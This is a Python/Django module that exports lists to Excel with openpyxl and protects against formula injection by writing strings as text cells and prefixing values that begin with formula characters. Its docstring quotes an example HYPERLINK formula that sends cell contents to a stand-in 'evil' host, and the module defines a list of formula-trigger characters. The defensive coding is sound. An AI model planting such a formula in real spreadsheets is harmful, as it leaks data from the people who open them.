"""Excel export of a list with its current filters and the values as displayed (openpyxl, write-only).

Every string is written as a text cell, never a formula: what an enterprise types as its 项目名称
(``=HYPERLINK("http://evil…"&A1,"点我")``) is data, and must not run in the insurer's Excel (formula injection).
A string that Excel would read as the start of a formula (= + - @, tab, CR) also gets the cell's 以文本形式存储
mark (``quotePrefix``), so it stays text when someone edits the cell, or saves the sheet as CSV and opens it again.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from tempfile import SpooledTemporaryFile
from typing import Any

from django.http import FileResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill

MAX_EXPORT_ROWS = 100_000  # one sheet; a larger export is refused by the caller with a message

_HEADER_FONT = Font(bold=True)
_HEADER_FILL = PatternFill("solid", fgColor="F5F7FA")
# What makes Excel (or a CSV import) read a cell as a formula or a command.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def xlsx_response(
    filename: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], widths: Sequence[int] | None = None
) -> FileResponse:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(filename[:31])
    for index, width in enumerate(widths or [18] * len(headers), start=1):
        sheet.column_dimensions[_column_letter(index)].width = width
    header_cells = []
    for title in headers:
        cell = WriteOnlyCell(sheet, value=title)
        cell.font = _HEADER_FONT
        cell.fill = _HEADER_FILL
        cell.alignment = Alignment(horizontal="center")
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in rows:
        sheet.append([_cell(sheet, value) for value in row])
    buffer = SpooledTemporaryFile(max_size=8 * 1024 * 1024)  # noqa: SIM115 - closed by FileResponse
    workbook.save(buffer)
    buffer.seek(0)
    stamp = timezone.localtime().strftime("%Y%m%d%H%M%S")
    name = f"{filename}_{stamp}.xlsx"
    return FileResponse(
        buffer,
        as_attachment=True,
        filename=name,
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )


def _cell(sheet: Any, value: Any) -> Any:
    """A string as a text cell (never a formula); anything else (numbers, dates, None) as it is."""
    if not isinstance(value, str):
        return value
    # Control characters are not allowed in the file's XML (openpyxl raises): drop them rather than fail.
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # openpyxl makes any "=…" a formula; a text cell is written as a string
    if text.startswith(FORMULA_TRIGGERS):
        cell.quotePrefix = True
    return cell


def _column_letter(index: int) -> str:
    letters = ""
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters
